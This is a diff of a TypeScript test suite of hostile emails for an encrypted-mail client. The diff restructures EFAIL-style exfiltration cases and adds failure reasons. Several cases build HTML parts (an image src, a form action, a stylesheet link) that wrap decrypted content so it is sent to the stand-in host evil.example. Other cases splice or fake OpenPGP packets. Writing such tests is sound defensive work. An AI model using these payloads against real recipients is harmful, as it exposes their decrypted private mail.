@@ -2,7 +2,7 @@
 import { readFileSync } from 'node:fs'
 import path from 'node:path'
 import { type Bench, textForm } from './bench.ts'
-import type { HostileMail } from './cases.ts'
+import type { HostileMail, Surrounded } from './cases.ts'
 import { crlf, encryptedMail, entityOf, html, mail, multipart, octets, plain, versionPart } from './mime.ts'
 import { armored, changed, dearmored, join, literal, split } from './packets.ts'
 
@@ -20,60 +20,53 @@ async function withData(
 
 const kept = (body: Uint8Array) => ({ tag: protectedData, body })
 
-const exfiltrating = (
-  name: string,
-  tries: string,
-  wrap: (armor: string, marker: string) => string,
-): HostileMail => ({
-  name,
-  attack: 'exfiltration',
-  shows: 'nothing',
-  tries,
-  make: async ({ seen, marker }) => wrap((await seen()).asc, marker),
-})
-
-export const exfiltration: readonly HostileMail[] = [
+/** Pages that would send what is decrypted between their parts to whoever wrote them. */
+export const surroundedByPages: readonly Surrounded[] = [
   {
     name: 'an image around the encrypted part',
     attack: 'exfiltration',
-    shows: 'nothing',
     tries: 'Opens the address of an image before the encrypted part and closes it after (EFAIL, direct).',
-    make: async ({ seen, marker }) => {
-      const eml = entityOf((await seen()).eml)
-      return mail(multipart('mixed', html(`${marker}<img src="http://evil.example/`), eml, html('">')))
-    },
+    make: ({ eml }, marker) =>
+      mail(multipart('mixed', html(`${marker}<img src="http://evil.example/`), entityOf(eml), html('">'))),
   },
-  exfiltrating(
-    'an image around pasted armor in parts',
-    'Does the same with armor as a text part.',
-    (armor, marker) =>
-      mail(multipart('mixed', html(`${marker}<img src='http://evil.example/`), octets(armor), html("'>"))),
-  ),
-  exfiltrating(
-    'a form around the encrypted part',
-    'Has what was decrypted sent as a field of a form.',
-    (armor, marker) =>
+  {
+    name: 'an image around pasted armor in parts',
+    attack: 'exfiltration',
+    tries: 'Does the same with armor as a text part.',
+    make: ({ asc }, marker) =>
+      mail(multipart('mixed', html(`${marker}<img src='http://evil.example/`), octets(asc), html("'>"))),
+  },
+  {
+    name: 'a form around the encrypted part',
+    attack: 'exfiltration',
+    tries: 'Has what was decrypted sent as a field of a form.',
+    make: ({ asc }, marker) =>
       mail(
         multipart(
           'related',
           html(`<form action="http://evil.example"><textarea>${marker}`),
-          octets(armor),
+          octets(asc),
           html('</form>'),
         ),
       ),
-  ),
-  exfiltrating(
-    'a style sheet that asks',
-    'Loads a style sheet from outside beside the encrypted part.',
-    (armor, marker) =>
+  },
+  {
+    name: 'a style sheet that asks',
+    attack: 'exfiltration',
+    tries: 'Loads a style sheet from outside beside the encrypted part.',
+    make: ({ asc }, marker) =>
       mail(
-        multipart('mixed', html(`<link rel=stylesheet href="http://evil.example/${marker}">`), octets(armor)),
+        multipart('mixed', html(`<link rel=stylesheet href="http://evil.example/${marker}">`), octets(asc)),
       ),
-  ),
+  },
+]
+
+export const exfiltration: readonly HostileMail[] = [
   {
     name: 'armor inside of an attribute',
     attack: 'exfiltration',
     shows: 'nothing',
+    reasons: ['signature-missing', 'record-missing'],
     tries: 'Has the armor decrypted where it stands in the address of an image.',
     make: async ({ sealed, marker }) =>
       mail(html(`<img src="http://evil.example/\n${await sealed(marker, null)}\n">`)),
@@ -82,6 +75,7 @@ export const exfiltration: readonly HostileMail[] = [
     name: 'a page in the encrypted part',
     attack: 'exfiltration',
     shows: 'as not proved',
+    reasons: ['signature-missing', 'record-missing'],
     tries: 'Encrypts a page to the desk that loads an image with what it can read.',
     make: async ({ sealed, marker }) =>
       encryptedMail(
@@ -92,6 +86,7 @@ export const exfiltration: readonly HostileMail[] = [
     name: 'a part that lies elsewhere',
     attack: 'exfiltration',
     shows: 'as not proved',
+    reasons: ['signature-missing', 'record-missing'],
     tries: 'Refers to a body that a reader should fetch (message/external-body).',
     make: ({ marker }) =>
       mail(
@@ -217,6 +212,7 @@ export const ciphertexts: readonly HostileMail[] = [
     name: 'encrypted data under a signature',
     attack: 'several messages in one',
     shows: 'as not proved',
+    reasons: ['signature-missing', 'record-missing'],
     tries: 'Puts encrypted data between the announcement and the signature of another content.',
     make: async ({ signedPackets, sealed, sender, marker }) => {
       const [announced, , signature] = split(await signedPackets('Good morning', sender))
@@ -258,6 +254,7 @@ export const ciphertexts: readonly HostileMail[] = [
     name: 'a message in clear that says it is encrypted',
     attack: 'no integrity',
     shows: 'as not proved',
+    reasons: ['signature-missing', 'record-missing'],
     tries: 'Puts an unencrypted literal packet where an encrypted message belongs.',
     make: ({ marker }) =>
       mail(
